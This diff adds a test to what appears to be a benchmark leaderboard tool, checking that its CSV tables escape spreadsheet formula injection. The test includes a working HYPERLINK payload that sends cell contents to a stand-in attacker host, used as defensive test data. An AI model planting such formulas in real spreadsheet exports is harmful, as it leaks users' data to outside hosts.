@@ -325,3 +325,21 @@ def test_the_cli_warns_about_a_method_run_with_mixed_seeds(helpers, tmp_path: Pa
         helpers.write_result(tmp_path / "r" / f"{category}.json", result)
     assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "board")]) == 0
     assert "warning: alpha (synthetic, full): its categories were run with different seeds" in capsys.readouterr().err
+
+
+def test_names_that_spreadsheets_would_evaluate_are_written_as_text(tmp_path, helpers):
+    # CSV formula injection: a submitted result's method (or file name) "=HYPERLINK(...)" is a live formula in
+    # Excel or LibreOffice; the tables hold it with a leading ' (shown as text), and numbers as they are.
+    import csv
+
+    from adbench_hr.cli.main import main
+
+    method = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    helpers.write_result(tmp_path / "r" / "@evil.json", helpers.make_result(method, "a", pro_curves=False))
+    helpers.write_result(tmp_path / "r" / "good.json", helpers.make_result("-plain", "a", pro_curves=False))
+    assert main(["leaderboard", str(tmp_path / "r"), "--out", str(tmp_path / "out")]) == 0
+    for table in ("leaderboard.csv", "summary.csv"):
+        with (tmp_path / "out" / table).open(newline="", encoding="utf-8") as handle:
+            rows = list(csv.DictReader(handle))
+        assert sorted(row["method"] for row in rows) == ["'-plain", f"'{method}"]
+        assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
